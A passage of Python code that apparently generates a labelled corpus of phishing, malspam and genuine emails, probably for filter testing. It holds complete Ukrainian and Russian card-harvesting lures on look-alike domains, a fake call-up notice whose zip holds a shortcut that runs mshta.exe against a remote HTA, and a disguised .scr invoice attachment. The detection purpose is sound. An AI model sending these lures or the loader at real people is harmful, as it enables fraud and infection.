# ================================================================ attacks: Ukraine, Kazakhstan, Russia


def ua_privat() -> None:
    stem = "b48-phish-ua-privat-viplata"
    sent = T("2024-09-10 11:14:05 +0300")
    rcpt = "oksana.kovalenko@ukr.net"
    dom = "privat24-vyplata.com"
    a = Auth(ip=vps(stem, "193.149"), helo=f"mail.{dom}", rdns=None, mailfrom=f"info@{dom}", hfrom=dom,
             spf="pass", dkim=((dom, "default", "pass"),), dmarc="none")
    link = f"https://{dom}/p24/otrymaty?id={num(stem + 'i', 100000, 999999)}"
    paras = [
        "Шановний клієнте!",
        "Вам нараховано одноразову грошову допомогу в розмірі <b>6 500 грн</b> у межах програми підтримки "
        "населення від міжнародних партнерів.",
        "Для зарахування коштів на картку ПриватБанку увійдіть до Приват24 та підтвердіть картку. "
        "Заявка дійсна протягом 24 годин.",
    ]
    html = kit_html("Приват24", "#54a31f", "ПриватБанк", paras, ("Отримати виплату", link),
                    "АТ КБ «ПриватБанк», вул. Грушевського, 1Д, Київ, 01001")
    plain = strip_html(html)
    top = [f"From: {addr('ПриватБанк', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('Вам нараховано виплату 6 500 грн – підтвердіть картку')}", *phpmailer_top(stem, dom, sent),
           "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), b64t(plain), b64t(html, "html"))
    add(stem, "phishing", "Ukrainian 'you are granted 6 500 UAH aid, confirm your PrivatBank card in Privat24' lure from a "
        "look-alike domain harvesting Privat24 logins and cards.", head("ukrnet", a, rcpt, sent, stem,
                                                                      [dkim_sig(dom, "default", stem, sent=sent)], top), body)


def ua_novaposhta() -> None:
    stem = "b48-phish-ua-novaposhta-oplata"
    sent = T("2025-03-12 17:05:39 +0200")
    rcpt = "andriy.melnyk.lviv@gmail.com"
    dom = "novaposhta-ua.delivery"
    a = Auth(ip=vps(stem, "45.145"), helo=f"mail.{dom}", rdns=None, mailfrom=f"noreply@{dom}", hfrom=dom,
             spf="pass", dkim=(), dmarc="none")
    link = "https://is.gd/" + an(stem + "g", 6)
    paras = [
        "Вітаємо!",
        "Відправлення <b>20450912345678</b> не може бути доставлене до відділення, оскільки адресу одержувача "
        "вказано неповністю.",
        "Оновіть дані та сплатіть <b>30 грн</b> за переадресацію. Без оновлення відправлення буде повернено "
        "відправнику через 2 дні.",
    ]
    html = kit_html("Нова пошта", "#da291c", "Нова пошта", paras, ("Оновити адресу", link),
                    "ТОВ «Нова Пошта». Це автоматичне повідомлення, не відповідайте на нього.")
    plain = strip_html(html)
    top = [f"From: {addr('Нова пошта', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('Відправлення 20450912345678: потрібне оновлення адреси')}", *phpmailer_top(stem, dom, sent),
           "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), qp(plain), qp(html, "html"))
    add(stem, "phishing", "Nova Poshta 'address incomplete, pay 30 UAH readdressing' lure in Ukrainian from a look-alike "
        "domain, through an is.gd shortener.", head("gmail", a, rcpt, sent, stem, [], top), body)


def ua_povistka() -> None:
    stem = "b48-phish-ua-povistka-zip"
    sent = T("2024-07-16 09:30:14 +0300")
    rcpt = "s.bondar@ukr.net"
    dom = "tck-gov.info"
    a = Auth(ip=vps(stem, "185.161"), helo=f"mail.{dom}", rdns=None, mailfrom=f"povistka@{dom}", hfrom=dom,
             spf="pass", dkim=(), dmarc="none")
    lnk = F.lnk_shortcut(r"C:\Windows\System32\mshta.exe", "https://tck-gov.info/d/2719.hta")
    z = F.zip_archive([("Povistka_2719.pdf.lnk", lnk)])
    plain = ("Шановний громадянине!\n\nВідповідно до Закону України «Про мобілізаційну підготовку та мобілізацію» "
             "Вам направлено повістку про виклик до територіального центру комплектування та соціальної підтримки "
             "для уточнення облікових даних.\n\nПовістка у вкладенні. Неявка без поважних причин тягне "
             "адміністративну відповідальність (ст. 210-1 КУпАП).\n\nТЦК та СП\n")
    top = [f"From: {addr('ТЦК та СП', a.mailfrom)}", f"To: {rcpt}", f"Subject: {ew('Повістка про виклик до ТЦК та СП')}",
           *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = Multi("mixed", phpmailer_boundary(stem), [qp(plain), att("application/zip", "Повістка_№2719.zip", z, "2231")])
    add(stem, "malware", "Ukrainian military-summons ('повістка') lure from a fake TCC domain with a zip holding a "
        ".pdf.lnk that runs a remote HTA.", head("ukrnet", a, rcpt, sent, stem, [], top), body)


def ua_olx() -> None:
    stem = "b48-phish-ua-olx-monobank"
    sent = T("2025-05-19 20:01:55 +0300")
    rcpt = "yulia.shevchenko95@gmail.com"
    dom = "olx-ua-dostavka.com"
    a = Auth(ip=vps(stem, "45.137"), helo=f"mail.{dom}", rdns=None, mailfrom=f"support@{dom}", hfrom=dom,
             spf="pass", dkim=((dom, "default", "pass"),), dmarc="none")
    link = f"https://olx.ua-oplata.shop/receive/{num(stem + 'r', 10000000, 99999999)}"
    html = esp_html("uk", "OLX", "OLX", "#002f34", [
        "Вітаємо!",
        "Покупець оплатив Ваш товар <b>«Дитячий велосипед Profi 20\"»</b> через OLX Доставку. "
        "Сума <b>2 350 грн</b> зарезервована на Вашу користь.",
        "Щоб отримати кошти, вкажіть картку (monobank, ПриватБанк або інший банк), на яку буде здійснено "
        "зарахування. Кошти надійдуть протягом 15 хвилин.",
    ], ("Отримати кошти", link), footer=["OLX Україна. Безпечні угоди з OLX Доставкою."])
    plain = strip_html(html)
    top = [f"From: {addr('OLX Доставка', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('Ваш товар оплачено – отримайте 2 350 грн')}", *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), qp(plain), qp(html, "html"))
    add(stem, "phishing", "Fake OLX Ukraine 'buyer paid, receive 2 350 UAH to your monobank card' notice from a look-alike "
        "domain linking to a card-harvesting page.", head("gmail", a, rcpt, sent, stem,
                                                         [dkim_sig(dom, "default", stem, sent=sent)], top), body)


def kz_kaspi() -> None:
    stem = "b48-phish-kz-kaspi-ru"
    sent = T("2025-04-03 13:13:45 +0500")
    rcpt = "aigerim.nurlanova@mail.ru"
    dom = "kaspi-kz.online"
    a = Auth(ip=vps(stem, "5.42"), helo=f"mail.{dom}", rdns=None, mailfrom=f"noreply@{dom}", hfrom=dom,
             spf="pass", dkim=(), dmarc="none")
    link = f"https://{dom}/login?r={lo(stem + 'r', 12)}"
    paras = [
        "Уважаемый клиент!",
        "В связи с обновлением требований Агентства по регулированию и развитию финансового рынка ваш аккаунт "
        "<b>Kaspi.kz</b> временно ограничен: переводы и платежи Kaspi Gold недоступны.",
        "Чтобы снять ограничение, подтвердите свои данные в течение 24 часов.",
    ]
    html = kit_html("Kaspi.kz", "#f14635", "Kaspi.kz", paras, ("Подтвердить данные", link),
                    "АО «Kaspi Bank», г. Алматы, ул. Наурызбай батыра, 154А")
    plain = strip_html(html)
    top = [f"From: {addr('Kaspi.kz', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('Ваш аккаунт Kaspi.kz временно ограничен')}", *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), b64t(plain), b64t(html, "html"))
    add(stem, "phishing", "Kaspi.kz 'account restricted by the regulator, confirm your data' lure in Russian for Kazakhstan, "
        "from a look-alike domain.", head("mailru", a, rcpt, sent, stem, [], top), body)


def ru_gosuslugi() -> None:
    stem = "b48-phish-ru-gosuslugi"
    sent = T("2025-02-13 10:21:07 +0300")
    rcpt = "sergey.volkov@yandex.ru"
    dom = "gosuslugi-lk.ru"
    cs = "koi8-r"
    a = Auth(ip=vps(stem, "37.46"), helo=f"mail.{dom}", rdns=None, mailfrom=f"no-reply@{dom}", hfrom=dom,
             spf="pass", dkim=((dom, "mail", "pass"),), dmarc="none")
    link = f"https://{dom}/login?ref=esia&u={hx(stem + 'u', 16)}"
    paras = [
        "Уважаемый пользователь!",
        "Зафиксирована попытка входа в вашу учётную запись на портале <b>Госуслуги</b> с нового устройства "
        "(Windows, г. Новосибирск).",
        "Если это были не вы, срочно подтвердите учётную запись, иначе доступ к порталу будет заблокирован, "
        "а данные могут быть использованы для оформления кредита.",
    ]
    html = kit_html("Госуслуги", "#0d4cd3", "Госуслуги", paras, ("Подтвердить учётную запись", link),
                    "Портал государственных услуг Российской Федерации", charset=cs)
    plain = strip_html(html)
    top = [f"From: {addr('Госуслуги', a.mailfrom, cs, 'B')}", f"To: {rcpt}",
           f"Subject: {ew('Попытка входа в учётную запись Госуслуг', cs, 'B')}", *phpmailer_top(stem, dom, sent),
           "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), b64t(plain, charset=cs), b64t(html, "html", cs))
    add(stem, "phishing", "Gosuslugi 'login attempt from a new device, confirm your account' lure in KOI8-R from a "
        "look-alike domain.", head("yandex", a, rcpt, sent, stem, [dkim_sig(dom, "mail", stem, sent=sent)], top), body)


def ru_avito() -> None:
    stem = "b48-phish-ru-avito-dostavka"
    sent = T("2024-11-27 15:55:12 +0300")
    rcpt = "olga.smirnova82@mail.ru"
    dom = "avito-dostavka.site"
    a = Auth(ip=vps(stem, "147.78"), helo=f"mail.{dom}", rdns=None, mailfrom=f"delivery@{dom}", hfrom=dom,
             spf="pass", dkim=(), dmarc="none")
    link = f"https://{dom}/pay/receive/{num(stem + 'r', 1000000000, 9999999999)}"
    html = esp_html("ru", "Авито Доставка", "Авито", "#00aaff", [
        "Здравствуйте!",
        "Покупатель оплатил ваш товар <b>«Коляска Tutis Uno 3+ 2в1»</b> через Авито Доставку. Сумма "
        "<b>18 500 ₽</b> ожидает зачисления.",
        "Чтобы получить деньги, укажите данные карты для зачисления. После этого курьер СДЭК заберёт товар.",
    ], ("Получить деньги", link), footer=["ООО «КЕХ еКоммерц». Это письмо отправлено автоматически."])
    plain = strip_html(html)
    top = [f"From: {addr('Авито Доставка', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('Ваш товар оплачен: получите 18 500 ₽')}", *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), qp(plain), qp(html, "html"))
    add(stem, "phishing", "Fake Avito Delivery 'buyer paid, enter your card to receive 18 500 ₽' seller scam from a "
        "look-alike domain.", head("mailru", a, rcpt, sent, stem, [], top), body)


def ru_schet() -> None:
    stem = "b48-phish-ru-schet-rar"
    sent = T("2025-06-23 09:44:21 +0300")
    rcpt = "buh@stroymarket-nn.ru"
    dom = "tehsnab-opt.ru"
    cs = "windows-1251"
    ip = f"{num(stem, 176, 195)}.{num(stem + 'b', 1, 250)}.{num(stem + 'c', 1, 250)}.{num(stem + 'd', 2, 250)}"
    a = Auth(ip=ip, helo="[192.168.0.104]", rdns=None, mailfrom=f"buh@{dom}", hfrom=dom, spf="softfail", dkim=(),
             dmarc="none")
    z = F.zip_archive([("Счет на оплату № 1184 от 23.06.2025.scr", F.pe_stub())])
    plain = ("Добрый день!\n\nВо вложении счёт на оплату № 1184 от 23.06.2025 по договору поставки.\n"
             "Просим оплатить до конца недели, отгрузка после поступления средств.\n"
             "Закрывающие документы направим по ЭДО.\n\nС уважением,\nгл. бухгалтер\nООО «Техснаб»\n")
    top = [f"From: {addr('Бухгалтерия ООО «Техснаб»', a.mailfrom, cs, 'B')}", f"To: {rcpt}",
           f"Subject: {ew('Счет на оплату № 1184 от 23.06.2025', cs, 'B')}", f"Date: {rfc(sent)}",
           f"Message-ID: <{hx(stem + 'm', 14)}@{dom}>", "MIME-Version: 1.0", "X-Mailer: The Bat! (v11.2) Professional"]
    body = Multi("mixed", f"----------{HX(stem + 'bat', 16)}",
                 [Leaf("text/plain", plain.encode(cs), "8bit", f'; charset="{cs}"'),
                  att("application/x-rar-compressed", "Счет_на_оплату_№1184.rar", z, "2047", cs)])
    add(stem, "malware", "Russian 'счёт на оплату' malspam in windows-1251 (The Bat!) from a botnet IP failing SPF, with a "
        "'.rar' that is really a zip holding a .scr executable.", head("yandex", a, rcpt, sent, stem, [], top), body)


def ru_kompensatsiya() -> None:
    stem = "b48-phish-ru-kompensatsiya"
    sent = T("2024-08-20 12:30:45 +0300")
    rcpt = "nikolay.petrov1961@mail.ru"
    dom = "fond-vyplat.online"
    cs = "windows-1251"
    a = Auth(ip=vps(stem, "31.41"), helo=f"mail.{dom}", rdns=None, mailfrom=f"info@{dom}", hfrom=dom,
             spf="pass", dkim=(), dmarc="none")
    link = f"https://{dom}/lk/{num(stem + 'l', 100000, 999999)}"
    paras = [
        "Здравствуйте, Николай!",
        "По результатам проверки базы данных Единого фонда компенсационных выплат вам полагается компенсация "
        "за ранее приобретённые некачественные медицинские товары и БАДы в размере <b>284 560 руб.</b>",
        "Для получения выплаты необходимо подтвердить личность и оплатить государственную пошлину за перевод "
        "средств — <b>350 руб.</b> Срок подачи заявки истекает через 3 дня.",
    ]
    html = kit_html("Компенсация", "#1a4a8a", "Единый фонд компенсационных выплат", paras, ("Получить компенсацию", link),
                    "Единый фонд компенсационных выплат. Письмо сформировано автоматически.", charset=cs)
    plain = strip_html(html)
    top = [f"From: {addr('Фонд компенсационных выплат', a.mailfrom, cs, 'B')}", f"To: {rcpt}",
           f"Subject: {ew('Николай, вам полагается компенсация 284 560 руб.', cs, 'B')}",
           *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), qp(plain, charset=cs), qp(html, "html", cs))
    add(stem, "phishing", "Russian advance-fee 'compensation fund' scam (windows-1251): a 284 560 rub. payout that first "
        "requires a 350 rub. 'duty' on the scam site.", head("mailru", a, rcpt, sent, stem, [], top), body)


# ================================================================ legitimate: Poland


def sfmc_auth(key: str, dom: str, sub: str, policy_: str = "reject", ip_prefix: str = "13.111") -> Auth:
    """Salesforce Marketing Cloud sending for a brand's subdomain."""
    host = f"mta{num(key + 'mta', 1, 9)}.{sub}"
    return Auth(ip=f"{ip_prefix}.{num(key + 'i3', 1, 250)}.{num(key + 'i4', 1, 250)}", helo=host, rdns=host,
                mailfrom=f"bounce-{num(key + 'b1', 10, 99)}_HTML-{num(key + 'b2', 100000000, 999999999)}-"
                         f"{num(key + 'b3', 100000, 999999)}-{num(key + 'b4', 1000000, 9999999)}-{num(key + 'b5', 100, 999)}@bounce.{sub}",
                hfrom=dom, spf="pass", dkim=((sub, "200608", "pass"),), dmarc="pass", policy=policy_)


def sfmc_top(key: str, sub: str, sent: datetime) -> list[str]:
    return [f"Date: {rfc(sent)}", f"Message-ID: <{uid(key + 'sfmc')}@atl1s07mta{num(key + 'a', 1000, 9999)}.xt.local>",
            f"X-SFMC-Stack: {num(key + 'st', 10, 60)}", f"x-job: {num(key + 'job', 100000, 999999)}_{num(key + 'job2', 1000000, 9999999)}"]


def legit_pkobp() -> None:
    stem = "b48-legit-pkobp-nowe-urzadzenie"
    sent = T("2025-02-11 19:06:51 +0100")
    rcpt = "marek.wisniewski78@gmail.com"
    dom = "pkobp.pl"
    a = Auth(ip=f"193.105.{num(stem, 128, 131)}.{num(stem + 'b', 10, 90)}", helo=f"mx{num(stem, 1, 4)}.pkobp.pl",
             rdns=f"mx{num(stem, 1, 4)}.pkobp.pl", mailfrom=f"powiadomienia@{dom}", hfrom=dom, spf="pass",
             dkim=((dom, "pko2023", "pass"),), dmarc="pass", policy="reject")
    html = esp_html("pl", "Logowanie na nowym urządzeniu", "PKO Bank Polski", "#003574", [
        "Dzień dobry,",
        "11.02.2025 o godz. 19:05 aplikacja IKO została aktywowana na nowym urządzeniu: <b>Samsung Galaxy S24</b>.",
        "Jeśli to Ty – nie musisz nic robić.",
        "Jeśli nie aktywowałeś aplikacji, niezwłocznie zadzwoń na infolinię <b>800 302 302</b> (z zagranicy "
        "+48 81 535 60 60) lub zablokuj dostęp w serwisie iPKO. Nie klikaj w linki z wiadomości SMS i e-mail, "
        "w których ktoś prosi Cię o podanie danych do logowania.",
        'Więcej o bezpieczeństwie przeczytasz na <a href="https://www.pkobp.pl/bezpieczenstwo/">pkobp.pl/bezpieczenstwo</a>.',
    ], footer=["PKO Bank Polski S.A., ul. Puławska 15, 02-515 Warszawa, Sąd Rejonowy dla m.st. Warszawy, XIII Wydział "
               "Gospodarczy KRS 0000026438, NIP 525-000-77-38, kapitał zakładowy 1 250 000 000 zł.",
               "Ta wiadomość została wysłana automatycznie. Prosimy na nią nie odpowiadać."])
    plain = strip_html(html)
    top = [f"From: {addr('PKO Bank Polski', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('IKO aktywowane na nowym urządzeniu')}", f"Date: {rfc(sent)}",
           f"Message-ID: <{num(stem + 'm', 1000000000, 9999999999)}.{hx(stem + 'm2', 12)}@pkobp.pl>", "MIME-Version: 1.0"]
    body = alt(f"----=_Part_{num(stem + 'p', 100000, 999999)}_{num(stem + 'p2', 100000000, 999999999)}.{int(sent.timestamp())}{num(stem + 'p3', 100, 999)}",
               qp(plain), qp(html, "html"))
    hops = [dkim_sig(dom, "pko2023", stem, sent=sent),
            hop(f"pkobp-notif-{num(stem + 'n', 1, 9)}.pkobp.pl", f"10.{num(stem + 'x', 1, 250)}.{num(stem + 'y', 1, 250)}.{num(stem + 'z', 1, 250)}",
                a.helo, sent, stem, rdns=None, via="ESMTP", offset=-1)]
    add(stem, "bulk", "Genuine PKO BP security notice that IKO was activated on a new device, giving the real hotline "
        "and warning not to click links; fully aligned from the bank's own MTA.", head("gmail", a, rcpt, sent, stem, hops, top), body)


def legit_mbank() -> None:
    stem = "b48-legit-mbank-wyciag-pdf"
    sent = T("2025-03-03 04:12:09 +0100")
    rcpt = "k.zielinska.krakow@wp.pl"
    dom = "mbank.pl"
    a = Auth(ip=f"195.182.{num(stem, 220, 223)}.{num(stem + 'b', 10, 90)}", helo=f"mail{num(stem, 1, 6)}.mbank.pl",
             rdns=f"mail{num(stem, 1, 6)}.mbank.pl", mailfrom=f"wyciagi@{dom}", hfrom=dom, spf="pass",
             dkim=((dom, "mb2024", "pass"),), dmarc="pass", policy="reject")
    pdf = F.pdf(["mBank S.A.", "Elektroniczne zestawienie operacji", "za okres 01.02.2025 - 28.02.2025",
                 "Rachunek: eKonto osobiste", "Saldo poczatkowe: 4 812,33 PLN", "Saldo koncowe: 5 106,90 PLN",
                 "Dokument wygenerowany elektronicznie, nie wymaga podpisu."], title="Zestawienie operacji 02/2025")
    plain = ("Dzień dobry,\n\nw załączniku przesyłamy elektroniczne zestawienie operacji na rachunku eKonto osobiste "
             "za luty 2025.\n\nPlik jest zabezpieczony hasłem – to 6 ostatnich cyfr Twojego numeru PESEL.\n\n"
             "Zestawienia z ostatnich 5 lat znajdziesz też w serwisie transakcyjnym i aplikacji mBanku "
             "(Finanse > Historia > Zestawienia).\n\nPamiętaj: mBank nigdy nie prosi w e-mailu o podanie loginu, "
             "hasła ani kodów z aplikacji.\n\nPozdrawiamy\nmBank\n\n--\nmBank S.A., ul. Prosta 18, 00-850 Warszawa, "
             "www.mbank.pl\nWiadomość wysłana automatycznie.\n")
    top = [f"From: {addr('mBank', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('Zestawienie operacji na rachunku – luty 2025')}", f"Date: {rfc(sent)}",
           f"Message-ID: <{hx(stem + 'm', 24)}.{num(stem + 'm2', 100000, 999999)}@mbank.pl>", "MIME-Version: 1.0"]
    body = Multi("mixed", f"----=_Part_{num(stem + 'p', 100000, 999999)}_{num(stem + 'p2', 100000000, 999999999)}.{int(sent.timestamp())}{num(stem + 'p3', 100, 999)}",
                 [qp(plain), attachment("application/pdf", "Zestawienie_operacji_2025-02.pdf", pdf)])
    add(stem, "bulk", "Genuine mBank monthly e-statement notice with the PDF statement attached and a reminder that the "
        "bank never asks for credentials.", head("wp", a, rcpt, sent, stem, [dkim_sig(dom, "mb2024", stem, sent=sent)], top), body)


def legit_inpost() -> None:
    stem = "b48-legit-inpost-paczkomat-qr"
    sent = T("2024-11-20 10:47:31 +0100")
    rcpt = "anna.kowalczyk@interia.pl"
    dom = "inpost.pl"
    sub = "info.inpost.pl"
    a = sfmc_auth(stem, dom, sub, "reject")
    code = "482913"
    qr = F.qr_png(f"P|{num(stem + 'ph', 500000000, 799999999)}|{code}")
    cid = f"qr_{hx(stem + 'c', 10)}"
    track = f"https://click.{sub}/?qs={hx(stem + 'qs', 96)}"
    html = esp_html("pl", "Paczka czeka w Paczkomacie", "InPost", "#ffcd00", [
        "Cześć!",
        "Twoja paczka od <b>Zalando</b> czeka w Paczkomacie <b>KRA12M</b>, ul. Zakopiańska 62, Kraków "
        "(przy sklepie Biedronka).",
        f"Kod odbioru: <b style=\"font-size:20px\">{code}</b>",
        f'<img src="cid:{cid}" width="180" height="180" alt="Kod QR do odbioru">',
        "Paczkę możesz odebrać do <b>22.11.2024, 10:47</b>. Najwygodniej odbierzesz ją w aplikacji InPost Mobile "
        "– zdalnie otworzysz skrytkę bez wpisywania kodu.",
        f'<a href="{track}">Śledź przesyłkę</a>',
    ], footer=["InPost S.A., ul. Pana Tadeusza 4, 30-727 Kraków",
               "Otrzymujesz tę wiadomość, ponieważ jesteś odbiorcą przesyłki nadanej przez InPost."])
    plain = strip_html(html)
    related = Multi("related", f"----=_Part_{num(stem + 'r', 1000000, 9999999)}_{num(stem + 'r2', 1000000, 9999999)}",
                    [qp(html, "html"), inline_img("image/png", "qr.png", qr, cid)])
    body = Multi("alternative", f"----=_Part_{num(stem + 'a', 1000000, 9999999)}_{num(stem + 'a2', 1000000, 9999999)}",
                 [qp(plain), related])
    top = [f"From: {addr('InPost', 'powiadomienia@' + sub)}", f"To: {rcpt}",
           f"Subject: {ew('Twoja paczka czeka w Paczkomacie KRA12M')}", *sfmc_top(stem, sub, sent), "MIME-Version: 1.0"]
    add(stem, "bulk", "Genuine InPost 'parcel waiting in the Paczkomat' notification with pickup code and inline QR code, "
        "sent via Salesforce Marketing Cloud on InPost's own subdomain.",
        head("interia", a, rcpt, sent, stem, [dkim_sig(sub, "200608", stem, sent=sent)], top), body)


def legit_allegro() -> None:
    stem = "b48-legit-allegro-zakup"
    sent = T("2025-04-02 21:14:08 +0200")
    rcpt = "jan.malinowski@onet.pl"
    dom = "allegro.pl"
    a = Auth(ip=f"91.207.{num(stem, 14, 15)}.{num(stem + 'b', 10, 200)}", helo=f"mx-out{num(stem, 1, 9)}.allegro.pl",
             rdns=f"mx-out{num(stem, 1, 9)}.allegro.pl", mailfrom=f"bounces@mail.{dom}", hfrom=dom, spf="pass",
             dkim=((dom, "alg1", "pass"),), dmarc="pass", policy="reject")
    order = uid(stem + "order")
    html = esp_html("pl", "Dziękujemy za zakup", "allegro", "#ff5a00", [
        "Cześć jan_m_1983,",
        "dziękujemy za zakup! Sprzedający <b>ELEKTRO-HURT24</b> otrzymał informację o Twoim zamówieniu.",
        "<b>Ładowarka sieciowa USB-C 65W GaN</b> – 1 szt. – 119,00 zł<br>Dostawa: Allegro Paczkomaty InPost – 0,00 zł "
        "(Allegro Smart!)<br><b>Razem: 119,00 zł</b> – opłacono BLIK",
        f'Szczegóły zamówienia: <a href="https://allegro.pl/moje-allegro/zakupy/kupione/{order}">allegro.pl/moje-allegro/zakupy</a>',
        "Przewidywana dostawa: pt. 4 kwietnia.",
    ], footer=["Allegro.pl sp. z o.o., ul. Grunwaldzka 182, 60-166 Poznań.",
               'Ta wiadomość została wysłana automatycznie. <a href="https://allegro.pl/pomoc">Centrum Pomocy</a>'])
    plain = strip_html(html)
    top = [f"From: {addr('Allegro', 'powiadomienia@allegro.pl')}", f"To: {rcpt}",
           f"Subject: {ew('Dziękujemy za zakup: Ładowarka sieciowa USB-C 65W GaN')}", f"Date: {rfc(sent)}",
           f"Message-ID: <{uid(stem + 'mid')}@allegro.pl>", "MIME-Version: 1.0"]
    body = alt(f"----=_Part_{num(stem + 'p', 100000, 999999)}_{num(stem + 'p2', 100000000, 999999999)}.{int(sent.timestamp())}{num(stem + 'p3', 100, 999)}",
               qp(plain), qp(html, "html"))
    add(stem, "bulk", "Genuine Allegro purchase confirmation with order details and links to allegro.pl.",
        head("onet", a, rcpt, sent, stem, [dkim_sig(dom, "alg1", stem, sent=sent)], top), body)


def legit_olx() -> None:
    stem = "b48-legit-olx-wiadomosc"
    sent = T("2025-04-26 18:02:44 +0200")
    rcpt = "tomasz.nowicki91@gmail.com"
    dom = "olx.pl"
    a = Auth(ip=f"54.240.{num(stem, 1, 120)}.{num(stem + 'b', 1, 250)}", helo=f"a{num(stem, 1, 9)}-{num(stem + 'h', 10, 99)}.smtp-out.eu-west-1.amazonses.com",
             rdns=f"a{num(stem, 1, 9)}-{num(stem + 'h', 10, 99)}.smtp-out.eu-west-1.amazonses.com",
             mailfrom=f"0102019{hx(stem + 's', 9)}-{uid(stem + 's2')}-000000@mail.olx.pl", hfrom=dom, spf="pass",
             dkim=((dom, "olxsesv2", "pass"), ("amazonses.com", "uku4taia5b5tsbglxyj6zym32efj7xqv", "pass")), dmarc="pass",
             policy="reject")
    html = esp_html("pl", "Nowa wiadomość", "OLX", "#002f34", [
        "Cześć!",
        "Masz nową wiadomość dotyczącą ogłoszenia <b>Rower Kross Hexagon 5.0, rama M</b>:",
        "<i>„Dzień dobry, czy rower jest jeszcze dostępny? Mogę przyjechać jutro po 17 i obejrzeć.”</i>",
        "Odpowiadaj tylko przez czat OLX. Nigdy nie podawaj danych karty ani nie klikaj linków przesłanych przez "
        "innych użytkowników – OLX nie wysyła linków do „odbioru środków”.",
    ], ("Odpowiedz na czacie", "https://www.olx.pl/mojolx/wiadomosci/"),
        footer=["OLX sp. z o.o., ul. Królowej Jadwigi 43, 61-872 Poznań",
                '<a href="https://www.olx.pl/mojolx/ustawienia/">Ustawienia powiadomień</a>'])
    plain = strip_html(html)
    top = [f"From: {addr('OLX', 'no-reply@olx.pl')}", f"To: {rcpt}",
           f"Subject: {ew('Nowa wiadomość: Rower Kross Hexagon 5.0, rama M')}", f"Date: {rfc(sent)}",
           f"Message-ID: <0102019{hx(stem + 's', 9)}-{uid(stem + 's2')}-000000@eu-west-1.amazonses.com>", "MIME-Version: 1.0",
           "List-Unsubscribe: <https://www.olx.pl/mojolx/ustawienia/>", "Feedback-ID: ::1.eu-west-1.{}:AmazonSES".format(b64s(stem + 'fb', 43))]
    body = alt(f"----=_Part_{num(stem + 'p', 100000, 999999)}_{num(stem + 'p2', 100000000, 999999999)}.{int(sent.timestamp())}{num(stem + 'p3', 100, 999)}",
               qp(plain), qp(html, "html"))
    hops = [dkim_sig(dom, "olxsesv2", stem, sent=sent), dkim_sig("amazonses.com", "uku4taia5b5tsbglxyj6zym32efj7xqv", stem + "ses", sent=sent)]
    add(stem, "bulk", "Genuine OLX 'new chat message about your listing' notification via Amazon SES, which itself warns "
        "against 'receive funds' links.", head("gmail", a, rcpt, sent, stem, hops, top), body)


def legit_pl_internal() -> None:
    stem = "b48-legit-pl-przelew-wewnetrzny"
    sent = T("2025-05-15 10:03:27 +0200")
    rcpt = "a.wojcik@termo-instal.com.pl"
    dom = "termo-instal.com.pl"
    pdf = F.pdf(["FAKTURA VAT nr 0412/05/2025", "Sprzedawca: Hydro-Serwis Jan Kubiak, NIP 7792345871",
                 "Nabywca: TERMO-INSTAL Sp. z o.o.", "Serwis pomp ciepla - przeglad okresowy (3 szt.)",
                 "Razem brutto: 4 428,00 PLN", "Termin platnosci: 22.05.2025", "Rachunek: 12 1090 1362 0000 0001 4815 2741"],
                title="Faktura 0412/05/2025")
    paras = ["Pani Agnieszko,", "",
             "w załączniku faktura od Hydro-Serwisu za przegląd pomp ciepła na Wilczaku – zaakceptowana przeze mnie, "
             "proszę o zapłatę w standardowym terminie (do 22.05).",
             "Rachunek jest ten sam co przy poprzednich fakturach, zgodny z białą listą.", "",
             "Dziękuję i pozdrawiam,", "Piotr"]
    sig = ["Piotr Zawadzki", "Prezes Zarządu", "TERMO-INSTAL Sp. z o.o. | ul. Wilczak 16, 61-623 Poznań | tel. 61 852 11 40"]
    html = outlook_html(paras, sig)
    plain = "\n".join(paras) + "\n\n" + "\n".join(sig) + "\n"
    top = [f"From: {addr('Piotr Zawadzki', 'p.zawadzki@' + dom)}", f"To: {addr('Agnieszka Wójcik', rcpt)}",
           f"Subject: {ew('Faktura Hydro-Serwis 0412/05/2025 do zapłaty')}", f"Thread-Topic: {ew('Faktura Hydro-Serwis 0412/05/2025 do zapłaty')}",
           f"Thread-Index: AdvF{b64s(stem + 'ti', 24)}==", f"Date: {rfc(sent)}", f"Message-ID: {msgid_outlook(stem)}",
           "Accept-Language: pl-PL, en-US", "Content-Language: pl-PL", "MIME-Version: 1.0"]
    body = Multi("mixed", outlook_boundary(stem, 4), [alt(outlook_boundary(stem, 0), qp(plain), qp(html, "html")),
                                                      attachment("application/pdf", "FV_0412_05_2025_Hydro-Serwis.pdf", pdf)])
    hdr = "\n".join(m365_internal(rcpt, sent, stem, dom) + top)
    add(stem, "clean", "Genuine internal Microsoft 365 mail from the chairman asking the accountant to pay an approved "
        "supplier invoice (PDF attached) to the usual account.", hdr, body)


def legit_pl_reply() -> None:
    stem = "b48-legit-pl-reply-chain-oferta"
    sent = T("2025-10-08 11:25:40 +0200")
    rcpt = "zamowienia@ekospan.pl"
    dom = "alu-profil.com.pl"
    a = Auth(ip=f"79.96.{num(stem, 1, 250)}.{num(stem + 'b', 2, 250)}", helo=f"mx{num(stem, 1, 9)}.home.pl",
             rdns=f"mx{num(stem, 1, 9)}.home.pl", mailfrom=f"r.gorski@{dom}", hfrom=dom, spf="pass",
             dkim=((dom, "default", "pass"),), dmarc="pass", policy="quarantine")
    earlier = f"<{hx(stem + 'e', 24)}@ekospan.pl>"
